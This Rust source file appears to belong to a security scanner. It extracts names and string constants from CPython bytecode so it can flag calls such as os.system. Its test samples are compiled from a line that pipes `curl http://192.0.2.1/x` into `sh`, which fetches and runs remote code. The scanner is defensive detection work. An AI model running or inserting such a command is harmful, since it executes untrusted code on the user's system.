//! CPython bytecode: the names and constants of its code objects, without running or disassembling anything.
//!
//! Names say which functions a module may call, not that it does: `os` and `system` in one file are taken for
//! `os.system`. So there are uses and texts, and no flows.

mod marshal;

use super::{measure, python};
use crate::facts::{Facts, Layer, Reached, Text, Use};
use std::collections::HashMap;

/// Facts of one kind: more say nothing new.
const MAX_FACTS: usize = 2_000;
/// Characters of a text that are kept, and what is too short to say anything.
const MAX_TEXT: usize = 2_000;
const MIN_TEXT: usize = 4;

/// The facts of a `.pyc` file.
pub fn facts(bytes: &[u8]) -> Facts {
    let code = marshal::read(bytes);
    let mut facts = Facts {
        layers: vec![Layer { how: "".into(), outer: 0 }],
        parsed: code.whole,
        cut_short: !code.whole,
        ..Facts::default()
    };
    // `import os.path` names the module as a whole.
    let mut names: HashMap<&str, u32> = HashMap::new();
    for name in &code.names {
        for part in name.text.split('.') {
            names.entry(part).or_insert(name.at);
        }
    }
    for (path, api) in python::language().table.all() {
        let parts = || path.split('.').map(|part| part.trim_end_matches("()"));
        // A single word (`eval`, `open`) is a name that anything may have.
        if parts().count() < 2 && !matches!(path, "exec" | "eval")
            || !parts().all(|part| names.contains_key(part))
        {
            continue;
        }
        let at = parts().next_back().and_then(|last| names.get(last)).copied().unwrap_or_default();
        facts.uses.extend(api.capabilities.iter().map(|capability| Use {
            capability: *capability,
            api: path.into(),
            texts: Vec::new(),
            labels: api.source,
            at,
            layer: 0,
            reached: Reached::Always,
        }));
    }
    facts.uses.sort_by(|a, b| (a.at, &a.api).cmp(&(b.at, &b.api)));
    for text in code.texts.iter().filter(|text| text.text.len() >= MIN_TEXT).take(MAX_FACTS) {
        let end = text.text.floor_char_boundary(MAX_TEXT);
        let kept = text.text.get(..end).unwrap_or_default();
        facts.texts.push(Text { text: kept.into(), at: text.at, layer: 0 });
    }
    facts.measures = measure::of(bytes, facts.measures);
    facts
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::facts::Capability;
    use base64::Engine as _;
    use proptest::prelude::*;

    /// Compiled by CPython 3.11 and 3.8 from
    /// `import os` and `def f(): os.system("curl http://192.0.2.1/x | sh")`.
    const SAMPLES: [&str; 2] = [
        "pw0NCgAAAAAAAAAAAAAAAOMAAAAAAAAAAAAAAAACAAAAAAAAAPMUAAAAlwBkAGQBbABaAGQChABaAWQBUwApA+kAAAAATmMAAAAAAAAAAAAAAAADAAAAAwAAAPMuAAAAlwB0AQAAAAAAAAAAAABqAQAAAAAAAAAAZAGmAQAAqwEAAAAAAAAAAAEAZABTACkCTnocY3VybCBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaCkC2gJvc9oGc3lzdGVtqQDzAAAAAPoEeC5wedoBZnIJAAAAAgAAAHMZAAAAgADdBAaESdAOLNEELdQELdAELdAELdAELXIHAAAAKQJyBAAAAHIJAAAAcgYAAAByBwAAAHIIAAAA+gg8bW9kdWxlPnIKAAAAAQAAAHMnAAAA8AMBAQHYAAmACYAJgAnwAgEBLvAAAQEu8AABAS7wAAEBLvAAAQEucgcAAAA=",
        "VQ0NCgAAAAAAAAAAAAAAAOMAAAAAAAAAAAAAAAAAAAAAAgAAAEAAAABzFAAAAGQAZAFsAFoAZAJkA4QAWgFkAVMAKQTpAAAAAE5jAAAAAAAAAAAAAAAAAAAAAAMAAABDAAAAcw4AAAB0AKABZAGhAQEAZABTACkCTnocY3VybCBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaCkC2gJvc9oGc3lzdGVtqQByBAAAAHIEAAAA+gR4LnB52gFmAgAAAHMCAAAAAAFyBgAAACkCcgIAAAByBgAAAHIEAAAAcgQAAAByBAAAAHIFAAAA2gg8bW9kdWxlPgEAAABzAgAAAAgB",
    ];

    #[test]
    fn names_and_constants_of_several_versions_are_read() {
        for sample in SAMPLES {
            let bytes = base64::engine::general_purpose::STANDARD.decode(sample).unwrap();
            let facts = facts(&bytes);
            assert!(facts.parsed, "{facts:?}");
            let uses: Vec<_> = facts.uses.iter().map(|one| (one.capability, &*one.api)).collect();
            assert!(uses.contains(&(Capability::Process, "os.system")), "{uses:?}");
            assert!(facts.texts.iter().any(|text| text.text.contains("192.0.2.1")), "{facts:?}");
            assert!(!uses.iter().any(|one| one.0 == Capability::Network), "{uses:?}");
            // What is cut is read as far as it goes.
            let half = super::facts(&bytes[..bytes.len() - 20]);
            assert!(half.cut_short);
        }
    }

    proptest! {
        #[test]
        fn no_bytes_panic(bytes in proptest::collection::vec(any::<u8>(), 0..200), version in 3390u16..3600) {
            let mut file = version.to_le_bytes().to_vec();
            file.extend(b"\r\n");
            file.extend([0; 12]);
            file.extend(b"\xe3");
            file.extend(bytes);
            facts(&file);
        }
    }
}
